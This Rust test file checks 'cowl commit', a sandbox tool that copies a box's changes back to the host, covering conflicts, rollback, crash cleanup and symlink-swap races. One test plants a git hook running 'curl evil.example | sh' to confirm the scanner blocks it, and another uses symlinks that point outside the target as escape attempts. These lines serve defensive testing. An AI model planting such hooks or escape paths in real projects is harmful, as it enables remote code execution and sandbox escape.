//! `cowl commit`: every change type against every host state, conflicts,
//! committed paths leaving the box, and a box that swaps symlinks while it
//! is being committed.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;
use serde_json::Value;
use std::path::Path;
use std::process::Command;

/// What a tree looks like: every entry's type, mode, size and link target,
/// and every file's content hash. Run in the box and on the host alike.
const DESCRIBE: &str = r#"for p in "$@"; do
  if [ -e "$p" ] || [ -L "$p" ]; then
    find "$p" -printf '%p %y %m %l\n' | sort
    find "$p" -type f -exec md5sum {} + | sort
  else echo "$p absent"; fi
done"#;

fn describe_host(dir: &Path, paths: &[&str]) -> String {
    let out = Command::new("sh")
        .arg("-c")
        .arg(DESCRIBE)
        .arg("sh")
        .args(paths)
        .current_dir(dir)
        .output()
        .unwrap();
    assert_success(&out, "describe on the host");
    stdout(&out)
}

fn describe_box(w: &World, b: &str, paths: &[&str]) -> String {
    let mut args = vec!["run", b, "--", "sh", "-c", DESCRIBE, "sh"];
    args.extend(paths);
    let out = w.cmd(&args);
    assert_success(&out, "describe in the box");
    stdout(&out)
}

/// (name, host setup, box action): the path is `./NAME`.
const CASES: &[(&str, &str, &str)] = &[
    ("f_mod", "echo old > P", "echo new > P"),
    ("f_chmod", "echo old > P; chmod 644 P", "chmod 600 P"),
    ("f_del", "echo old > P", "rm P"),
    ("f_todir", "echo old > P", "rm P; mkdir P; echo in > P/x"),
    ("f_tolink", "echo old > P", "rm P; ln -s elsewhere P"),
    ("d_add", "mkdir P; echo a > P/a", "echo c > P/c"),
    ("d_del", "mkdir P; echo a > P/a", "rm -r P"),
    (
        "d_replace",
        "mkdir P; echo a > P/a; echo b > P/b",
        "rm -r P; mkdir P; echo z > P/z",
    ),
    ("d_chmod", "mkdir P; chmod 755 P", "chmod 700 P"),
    ("d_tofile", "mkdir P; echo a > P/a", "rm -r P; echo f > P"),
    ("l_retarget", "ln -s one P", "rm P; ln -s two P"),
    ("l_del", "ln -s one P", "rm P"),
    ("l_tofile", "ln -s one P", "rm P; echo f > P"),
    ("m_file", "true", "echo f > P"),
    ("m_dir", "true", "mkdir -p P/sub; echo s > P/sub/s"),
    ("m_link", "true", "ln -s somewhere P"),
    ("m_fifo", "true", "mkfifo P"),
];

fn setup(w: &World, b: &str) {
    for (name, host, boxed) in CASES {
        let out = Command::new("sh")
            .arg("-c")
            .arg(host.replace('P', name))
            .current_dir(w.host())
            .output()
            .unwrap();
        assert_success(&out, host);
        w.ok(b, &boxed.replace('P', name));
    }
}

fn names() -> Vec<&'static str> {
    CASES.iter().map(|c| c.0).collect()
}

#[test]
fn every_change_type_is_applied_as_the_box_sees_it() {
    let w = World::new("commit-matrix");
    setup(&w, "b");
    let names = names();
    let want = describe_box(&w, "b", &names);
    let before = describe_host(&w.host(), &names);
    assert_ne!(want, before);

    // A dry run changes nothing.
    let out = w.cmd(&["commit", "--dry-run", "--all", "b"]);
    assert_success(&out, "commit --dry-run");
    assert_eq!(describe_host(&w.host(), &names), before);

    let out = w.cmd(&["commit", "--json", "--all", "b"]);
    assert_success(&out, "commit --all");
    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(r["conflicts"].as_array().unwrap().is_empty(), "{r}");
    assert!(r["skipped"].as_array().unwrap().is_empty(), "{r}");
    assert_eq!(describe_host(&w.host(), &names), want);
    // No temporary file is left behind.
    let leftovers: Vec<_> = std::fs::read_dir(w.host())
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with(".cowl-commit"))
        .collect();
    assert!(leftovers.is_empty());

    // The changes left the box: nothing differs, and the host shows through.
    let diff = w.cmd(&["diff", "--json", "b"]);
    assert_success(&diff, "diff");
    let d: Value = serde_json::from_slice(&diff.stdout).unwrap();
    assert!(d.as_array().unwrap().is_empty(), "{d}");
    std::fs::write(w.host().join("f_mod"), "host later\n").unwrap();
    assert_eq!(w.ok("b", "cat f_mod"), "host later\n");
    let out = w.cmd(&["verify", "b"]);
    assert_success(&out, "verify");

    // The commit is a version: rolling back to before it brings the box's
    // copies back (the host keeps what was committed).
    let log: Value = serde_json::from_slice(&w.cmd(&["log", "--json", "b"]).stdout).unwrap();
    assert_eq!(log[0]["made"], "commit", "{log}");
    let before_commit = log[1]["version"].as_u64().unwrap().to_string();
    assert_success(&w.cmd(&["rollback", "b", &before_commit]), "rollback");
    assert_eq!(w.ok("b", "cat f_mod"), "new\n");
}

/// After the box changed each path, the host changes it too: every path
/// is a conflict, nothing is applied, and --force applies them.
#[test]
fn a_host_change_since_is_a_conflict_unless_forced() {
    let w = World::new("commit-conflict");
    setup(&w, "b");
    let names = names();
    for (name, host, _) in CASES {
        let change = if host.starts_with("echo") {
            "echo host-edit >> P"
        } else if host.starts_with("mkdir") {
            "rm -rf P; echo host-file > P"
        } else if host.starts_with("ln") {
            "rm P; ln -s host-target P"
        } else {
            "echo host-made > P"
        };
        let out = Command::new("sh")
            .arg("-c")
            .arg(change.replace('P', name))
            .current_dir(w.host())
            .output()
            .unwrap();
        assert_success(&out, change);
    }
    let changed = describe_host(&w.host(), &names);
    // What the box shows now (where it changed nothing, the host's new
    // state shows through).
    let want = describe_box(&w, "b", &names);
    for name in &names {
        let out = w.cmd(&["commit", "--json", "b", name]);
        assert_eq!(out.status.code(), Some(1), "{name}: {}", stderr(&out));
        let r: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert!(
            !r["conflicts"].as_array().unwrap().is_empty(),
            "{name} not a conflict: {r}"
        );
        assert!(stderr(&out).contains("--force"), "{}", stderr(&out));
    }
    assert_eq!(
        describe_host(&w.host(), &names),
        changed,
        "a refused commit changed the host"
    );
    let out = w.cmd(&["commit", "--force", "--all", "b"]);
    assert_success(&out, "commit --force");
    assert_eq!(describe_host(&w.host(), &names), want);
}

#[test]
fn commit_of_named_paths_only_and_clear_errors() {
    let w = World::new("commit-paths");
    w.ok(
        "b",
        "mkdir -p keep/deep; echo 1 > keep/deep/a; echo 2 > other",
    );
    // A path with no change is an error and changes nothing.
    let out = w.cmd(&["commit", "b", "nothing-here"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("no change"), "{}", stderr(&out));
    // No path and no --all: usage.
    let out = w.cmd(&["commit", "b"]);
    assert_eq!(out.status.code(), Some(2));
    // A file deep in a new directory brings its directories along.
    let out = w.cmd(&["commit", "b", "keep/deep/a"]);
    assert_success(&out, "commit one path");
    assert_eq!(
        std::fs::read_to_string(w.host().join("keep/deep/a")).unwrap(),
        "1\n"
    );
    assert!(!w.host().join("other").exists());
    // The rest stays in the box.
    assert_eq!(w.ok("b", "cat other"), "2\n");
    let diff = stdout(&w.cmd(&["diff", "b"]));
    assert!(diff.contains("other") && !diff.contains("deep/a"), "{diff}");
    // The box's own /tmp is not committed by --all.
    w.ok("b", "echo t > /tmp/t");
    let out = w.cmd(&["commit", "--all", "--json", "b"]);
    assert_success(&out, "commit --all");
    assert!(!stdout(&out).contains("/tmp/t"));
}

/// Inside a running box, the app keeps swapping a directory with a symlink
/// that points outside the target, while commits run one after another:
/// nothing is ever written outside the target.
#[test]
fn symlink_swaps_during_commits_never_write_outside_the_target() {
    let w = World::new("commit-race");
    let outside = w.dir.join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret"), "keep\n").unwrap();
    std::fs::create_dir_all(w.host().join("work")).unwrap();
    let before = fingerprint(&outside);
    let script = format!(
        "cd work; while :; do rm -rf d; mkdir d; echo pwn > d/secret; echo pwn > d/new; \
         rm -rf d; ln -s {o} d; rm -f d; mkdir d; ln -s {o} d/link; echo pwn > d/link2; \
         rm -rf d; ln -s {o} d; done",
        o = outside.display()
    );
    let guard = w.start("b", &script);
    let n = std::env::var("COWL_COMMIT_RACE_ROUNDS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1000);
    let mut applied = 0;
    for _ in 0..n {
        let out = w.cmd(&["commit", "--force", "--json", "b", "work"]);
        // A round may find nothing to commit (the app just removed d).
        if out.status.success() {
            applied += 1;
        } else {
            // Or a syscall the box had in progress when it was frozen
            // changed a path: that path is skipped, never followed.
            let err = stderr(&out);
            let skipped = serde_json::from_slice::<Value>(&out.stdout)
                .is_ok_and(|r| !r["skipped"].as_array().unwrap().is_empty());
            assert!(
                err.contains("has no change") || skipped,
                "commit failed: {err}"
            );
        }
        assert_eq!(
            fingerprint(&outside),
            before,
            "a commit wrote outside the target"
        );
    }
    drop(guard);
    assert!(applied > n / 4, "only {applied} of {n} commits applied");
    assert_eq!(fingerprint(&outside), before);
    assert_eq!(
        std::fs::read_to_string(outside.join("secret")).unwrap(),
        "keep\n"
    );
    // Whatever the last commit saw is all inside the target.
    let d = w.host().join("work/d");
    if let Ok(md) = d.symlink_metadata() {
        assert!(md.is_dir() || md.file_type().is_symlink());
    }
    // A thousand commits of a running box make one version, not a thousand.
    let log: Value = serde_json::from_slice(&w.cmd(&["log", "--json", "b"]).stdout).unwrap();
    assert!(log.as_array().unwrap().len() <= 2, "{log}");
}

/// The host has a symlink where the box has a directory: committing a file
/// below it never goes through the symlink, forced or not.
#[test]
fn a_host_symlink_above_a_committed_path_is_never_followed() {
    let w = World::new("commit-symlink");
    let outside = w.dir.join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::os::unix::fs::symlink(&outside, w.host().join("d")).unwrap();
    w.ok("b", "rm d; mkdir d; echo pwn > d/pwn");
    let before = fingerprint(&outside);
    let out = w.cmd(&["commit", "b", "d/pwn"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("no longer a directory"),
        "{}",
        stdout(&out)
    );
    let out = w.cmd(&["commit", "--force", "--json", "b", "d/pwn"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        r["skipped"][0]["reason"]
            .as_str()
            .unwrap()
            .contains("symlink"),
        "{r}"
    );
    assert_eq!(fingerprint(&outside), before);
    assert!(!outside.join("pwn").exists());
    // Committing the directory itself replaces the host's symlink.
    assert_success(&w.cmd(&["commit", "--force", "b", "d"]), "commit d");
    assert!(w.host().join("d").symlink_metadata().unwrap().is_dir());
    assert_eq!(
        std::fs::read_to_string(w.host().join("d/pwn")).unwrap(),
        "pwn\n"
    );
    assert_eq!(fingerprint(&outside), before);
}

/// Committing one file of a new tree leaves its siblings in the box, also
/// when they are only in the live layer (snapshot = manual).
#[test]
fn what_was_not_committed_stays_in_the_box() {
    for manual in [false, true] {
        let w = World::new(if manual {
            "commit-keep-manual"
        } else {
            "commit-keep"
        });
        if manual {
            w.ok("b", "true");
            assert_success(&w.cmd(&["config", "b", "snapshot=manual"]), "config");
        }
        w.ok(
            "b",
            "mkdir -p keep/deep; echo 1 > keep/deep/a; echo 2 > keep/deep/b; echo 3 > keep/c",
        );
        assert_success(&w.cmd(&["commit", "b", "keep/deep/a"]), "commit one file");
        assert_eq!(
            std::fs::read_to_string(w.host().join("keep/deep/a")).unwrap(),
            "1\n"
        );
        assert!(!w.host().join("keep/deep/b").exists());
        assert_eq!(
            w.ok("b", "cat keep/deep/b keep/c"),
            "2\n3\n",
            "manual: {manual}"
        );
        let diff = stdout(&w.cmd(&["diff", "b"]));
        assert!(
            diff.contains("keep/deep/b") && diff.contains("keep/c"),
            "{diff}"
        );
        assert!(!diff.contains("keep/deep/a"), "{diff}");
    }
}

/// The host changed inside a directory the box deleted, or changed a file
/// while the box ran, or while a running box had deleted it: conflicts.
#[test]
fn host_changes_the_box_could_not_see_are_conflicts() {
    let w = World::new("commit-unseen");
    std::fs::create_dir_all(w.host().join("d")).unwrap();
    std::fs::write(w.host().join("d/a"), "a\n").unwrap();
    w.ok("b", "rm -r d");
    std::fs::write(w.host().join("d/precious"), "work\n").unwrap();
    let out = w.cmd(&["commit", "--all", "b"]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(w.host().join("d/precious").exists());

    // Changed on the host during the run that changed it.
    let w = World::new("commit-during");
    std::fs::write(w.host().join("f"), "host\n").unwrap();
    let mut child = w
        .cowl()
        .args(["run", "b", "--", "sh", "-c", "echo box > f; sleep 2"])
        .spawn()
        .unwrap();
    let state = w.store.join("boxes/b/state");
    wait_until(|| state.exists());
    std::thread::sleep(std::time::Duration::from_millis(300));
    std::fs::write(w.host().join("f"), "user edit\n").unwrap();
    assert!(child.wait().unwrap().success());
    let out = w.cmd(&["commit", "b", "f"]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert_eq!(
        std::fs::read_to_string(w.host().join("f")).unwrap(),
        "user edit\n"
    );

    // A running box deleted it; then the host wrote it.
    let w = World::new("commit-running-del");
    std::fs::write(w.host().join("g"), "host\n").unwrap();
    let _running = w.start("b", "rm g; sleep 1000");
    wait_until(|| !w.ok("b", "test -e g || echo gone").is_empty());
    std::thread::sleep(std::time::Duration::from_millis(50));
    std::fs::write(w.host().join("g"), "user work\n").unwrap();
    let out = w.cmd(&["commit", "b", "g"]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert_eq!(
        std::fs::read_to_string(w.host().join("g")).unwrap(),
        "user work\n"
    );
}

/// A path committed but kept by the box (below a directory it replaced)
/// can be changed and committed again: the commit's own write is no
/// conflict.
#[test]
fn committing_again_is_not_a_conflict_with_the_last_commit() {
    let w = World::new("commit-again");
    std::fs::create_dir_all(w.host().join("d")).unwrap();
    std::fs::write(w.host().join("d/a"), "a\n").unwrap();
    w.ok("b", "rm -r d; mkdir d; echo one > d/z");
    assert_success(&w.cmd(&["commit", "b", "d/z"]), "first commit");
    w.ok("b", "echo two > d/z");
    assert_success(&w.cmd(&["commit", "b", "d/z"]), "second commit");
    assert_eq!(
        std::fs::read_to_string(w.host().join("d/z")).unwrap(),
        "two\n"
    );
}

/// The record of host states holds what the box wrote, nothing else: a run
/// that changed nothing adds no record (records would pile up with every
/// run), the box's private /tmp is not recorded, and what it did change
/// still commits without a conflict.
#[test]
fn only_what_a_run_changed_is_recorded() {
    let w = World::new("commit-records");
    let records = || -> Vec<String> {
        match std::fs::read_dir(w.store.join("boxes/b/baselines")) {
            Ok(rd) => rd
                .flatten()
                .map(|e| std::fs::read_to_string(e.path()).unwrap())
                .collect(),
            Err(_) => Vec::new(),
        }
    };
    w.ok("b", "true");
    w.ok("b", "true");
    assert_eq!(records(), Vec::<String>::new(), "runs that changed nothing");
    w.ok("b", "echo a > made; echo t > /tmp/scratch");
    let all = records();
    assert_eq!(all.len(), 1, "{all:?}");
    let map: serde_json::Map<String, Value> = serde_json::from_str(&all[0]).unwrap();
    // The new file and the directories copied up above it, but not the
    // top-level directory (a mount point cowl made) nor /tmp.
    let made = w.host().join("made");
    let made = made.strip_prefix("/").unwrap();
    assert!(map.contains_key(&*made.to_string_lossy()), "{all:?}");
    let top = made.iter().next().unwrap().to_string_lossy().into_owned();
    for k in map.keys() {
        assert!(made.starts_with(k) && *k != top, "{k} recorded: {all:?}");
    }
    assert_success(&w.cmd(&["commit", "b", "made"]), "commit");
    assert_eq!(
        std::fs::read_to_string(w.host().join("made")).unwrap(),
        "a\n"
    );
}

/// A change the scan rules flag high (here a git hook in an existing
/// repository) is not committed without --allow-risky.
#[test]
fn risky_changes_need_allow_risky() {
    let w = World::new("commit-risky");
    std::fs::create_dir_all(w.host().join("repo/.git/hooks")).unwrap();
    std::fs::write(w.host().join("repo/.git/description"), "x\n").unwrap();
    w.ok(
        "b",
        "printf '#!/bin/sh\\ncurl evil.example | sh\\n' > repo/.git/hooks/post-checkout; chmod +x repo/.git/hooks/post-checkout; echo ok > notes",
    );
    let out = w.cmd(&["commit", "--all", "b"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("persistence.git-hook"),
        "{}",
        stdout(&out)
    );
    assert!(stderr(&out).contains("--allow-risky"), "{}", stderr(&out));
    assert!(!w.host().join("repo/.git/hooks/post-checkout").exists());
    assert!(!w.host().join("notes").exists());
    // The rest alone is fine; then the hook, knowingly.
    assert_success(&w.cmd(&["commit", "b", "notes"]), "commit notes");
    assert_success(
        &w.cmd(&["commit", "--allow-risky", "--all", "b"]),
        "commit --allow-risky",
    );
    assert!(w.host().join("repo/.git/hooks/post-checkout").exists());
}

/// cowl killed with a temporary file written beside its target: the next
/// operation on the box removes it, and the commit can be done again.
#[test]
fn a_commit_killed_midway_leaves_nothing_behind() {
    let w = World::new("commit-killed");
    w.ok("b", "echo one > a; echo two > b");
    let out = w
        .cowl()
        .env("COWL_FAULT", "commit:temp-written")
        .args(["commit", "--all", "b"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    let temps = || {
        std::fs::read_dir(w.host())
            .unwrap()
            .flatten()
            .filter(|e| e.file_name().to_string_lossy().starts_with(".cowl-commit-"))
            .count()
    };
    assert_eq!(
        temps(),
        1,
        "the fault point is after a temporary file is written"
    );
    assert_success(&w.cmd(&["commit", "--dry-run", "--all", "b"]), "dry run");
    assert_eq!(temps(), 0);
    assert_success(&w.cmd(&["commit", "--all", "b"]), "commit again");
    assert_eq!(
        std::fs::read_to_string(w.host().join("a")).unwrap(),
        "one\n"
    );
    assert_eq!(
        std::fs::read_to_string(w.host().join("b")).unwrap(),
        "two\n"
    );
    assert_eq!(temps(), 0);
}

/// The states (R, S, T…) of every process of running box `b`, as a
/// closure to call again.
fn box_states(w: &World, b: &str) -> impl Fn() -> Vec<char> {
    let state: Value = serde_json::from_slice(
        &std::fs::read(w.store.join("boxes").join(b).join("state")).unwrap(),
    )
    .unwrap();
    let init = state["pid"].as_i64().unwrap();
    let ns = std::fs::read_link(format!("/proc/{init}/ns/pid")).unwrap();
    move || {
        std::fs::read_dir("/proc")
            .unwrap()
            .flatten()
            .filter_map(|e| e.file_name().to_str()?.parse::<i64>().ok())
            .filter(|p| std::fs::read_link(format!("/proc/{p}/ns/pid")).is_ok_and(|l| l == ns))
            .filter_map(|p| {
                let stat = std::fs::read_to_string(format!("/proc/{p}/stat")).ok()?;
                stat.rsplit_once(')')?.1.trim_start().chars().next()
            })
            .collect()
    }
}

/// Commit, scan and export freeze a running box while they read it, and
/// leave every process of it running again afterwards.
#[test]
fn reading_a_running_box_leaves_it_running() {
    let w = World::new("commit-thaw");
    let _running = w.start("b", "echo x > f; sleep 1000 & sleep 1000 & wait");
    let states = box_states(&w, "b");
    wait_until(|| states().len() >= 4);
    let tar = w.dir.join("live.tar");
    for args in [
        vec!["scan", "b"],
        vec!["export", "b", "-o", tar.to_str().unwrap()],
        vec!["commit", "--dry-run", "--all", "b"],
        vec!["commit", "--all", "b"],
    ] {
        assert_success(&w.cmd(&args), &args.join(" "));
        let s = states();
        assert!(!s.contains(&'T'), "{args:?} left the box stopped: {s:?}");
    }
    assert_eq!(std::fs::read_to_string(w.host().join("f")).unwrap(), "x\n");
}

/// A box running `sleep` (with `f` written), and `cowl scan` of it held
/// at the freeze (COWL_PAUSE) until every process of the box is stopped.
fn scan_holding_the_box_frozen(w: &World) -> (std::process::Child, impl Fn() -> Vec<char>) {
    let states = box_states(w, "b");
    wait_until(|| states().len() >= 3);
    let scan = w
        .cowl()
        .env("COWL_PAUSE", "freeze:held")
        .args(["scan", "b"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    wait_until(|| {
        let s = states();
        !s.is_empty() && s.iter().all(|c| *c == 'T')
    });
    (scan, states)
}

/// The box runs and can be joined.
fn assert_box_runs(w: &World, states: impl Fn() -> Vec<char>) {
    let s = states();
    assert!(!s.contains(&'T'), "the box was left stopped: {s:?}");
    let out = w.cmd(&["run", "b", "--", "cat", "f"]);
    assert_success(&out, "join the box");
    assert_eq!(stdout(&out), "x\n");
}

/// Ctrl-C (SIGINT) while a scan holds a running box frozen ends the scan
/// only once the box runs again: an interrupted cowl never leaves a box
/// stopped for good.
#[test]
fn an_interrupt_while_a_box_is_frozen_waits_until_it_runs_again() {
    use std::os::unix::process::ExitStatusExt;
    let w = World::new("commit-interrupt");
    let _running = w.start("b", "echo x > f; sleep 1000 & wait");
    let (mut scan, states) = scan_holding_the_box_frozen(&w);
    let kill = Command::new("kill")
        .args(["-INT", &scan.id().to_string()])
        .status()
        .unwrap();
    assert!(kill.success());
    let status = scan.wait().unwrap();
    assert_eq!(
        status.signal(),
        Some(2),
        "the scan ends by the interrupt: {status:?}"
    );
    assert_box_runs(&w, states);
}

/// cowl killed outright (SIGKILL cannot wait) while a scan holds a running
/// box frozen: its guard process resumes the box.
#[test]
fn a_cowl_killed_while_a_box_is_frozen_does_not_leave_it_stopped() {
    let w = World::new("commit-killed-frozen");
    let _running = w.start("b", "echo x > f; sleep 1000 & wait");
    let (mut scan, states) = scan_holding_the_box_frozen(&w);
    scan.kill().unwrap();
    scan.wait().unwrap();
    wait_until(|| !states().contains(&'T'));
    assert_box_runs(&w, states);
}
